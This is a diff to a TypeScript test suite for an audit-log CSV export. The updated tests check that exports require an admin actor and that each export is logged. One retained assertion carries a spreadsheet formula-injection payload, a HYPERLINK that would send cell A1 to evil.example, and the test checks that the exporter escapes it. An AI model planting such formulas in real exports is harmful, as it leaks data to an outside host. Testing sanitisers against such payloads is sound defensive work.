@@ -4,11 +4,12 @@ import {
   appendAuditEvents,
   exportAuditCsv,
   InvalidInputError,
+  listAuditEvents,
   pageAuditEvents,
   verifyAuditChain,
 } from "../src/index";
 import { createTestDatabase, type TestDatabase } from "../src/testing";
-import { APP_AUDIT } from "./fixtures";
+import { ADMIN_AUDIT, APP_AUDIT } from "./fixtures";
 
 setDefaultTimeout(30_000);
 
@@ -120,9 +121,11 @@ describe("exportAuditCsv", () => {
         })),
       );
       await appendAuditEvents(database.db, [{ ...APP_AUDIT, kind: "partner.event", result: "ok" }]);
-      const { csv, rows, truncated } = await exportAuditCsv(database.db, {
-        kind: "admin.blocks.lift",
-      });
+      const { csv, rows, truncated } = await exportAuditCsv(
+        database.db,
+        { kind: "admin.blocks.lift" },
+        ADMIN_AUDIT,
+      );
       expect({ rows, truncated }).toEqual({ rows: 4, truncated: false });
       const lines = csv.split("\r\n");
       expect(lines[0]).toBe(
@@ -140,12 +143,27 @@ describe("exportAuditCsv", () => {
       expect(parsed).toHaveLength(5);
       expect(parsed.every((record) => record.length === 25)).toBe(true);
       expect(parsed.slice(1).map((record) => record[22])).toEqual([...reasons].reverse());
-      const capped = await exportAuditCsv(database.db, { maxRows: 3 });
+      const capped = await exportAuditCsv(
+        database.db,
+        { maxRows: 3, userId: "usr_whose", partner: "intercom" },
+        ADMIN_AUDIT,
+      );
       expect({ rows: capped.rows, truncated: capped.truncated }).toEqual({
-        rows: 3,
-        truncated: true,
+        rows: 0,
+        truncated: false,
       });
-      expect(await verifyAuditChain(database.db)).toMatchObject({ ok: true, count: 5 });
+      const cut = await exportAuditCsv(database.db, { maxRows: 3 }, ADMIN_AUDIT);
+      expect({ rows: cut.rows, truncated: cut.truncated }).toEqual({ rows: 3, truncated: true });
+      // Each export is on the trail: who took it, about whom, whether it was cut; newest first.
+      const exports = await listAuditEvents(database.db, { kind: "admin.audit.export" });
+      expect(exports).toMatchObject([
+        { actor: "adm_1", sourceApp: "admin", result: "truncated", userId: null, partner: null },
+        { actor: "adm_1", result: "ok", userId: "usr_whose", partner: "intercom" },
+        { actor: "adm_1", result: "ok", userId: null, target: null },
+      ]);
+      // An export's own row is not in it (the rows are read first).
+      expect(csv).not.toContain("admin.audit.export");
+      expect(await verifyAuditChain(database.db)).toMatchObject({ ok: true, count: 8 });
     } finally {
       await database.close();
     }
@@ -173,7 +191,7 @@ describe("exportAuditCsv", () => {
           target: "blk_1",
         })),
       );
-      const { csv } = await exportAuditCsv(database.db, { kind: "admin.blocks.lift" });
+      const { csv } = await exportAuditCsv(database.db, { kind: "admin.blocks.lift" }, ADMIN_AUDIT);
       expect(csv).toContain(`,"'=HYPERLINK(""https://evil.example/?""&A1,""open"")",`);
       expect(csv).toContain(`,"'+1+2",`);
       expect(csv).toContain(`,"'@SUM(A1:A9)",`);
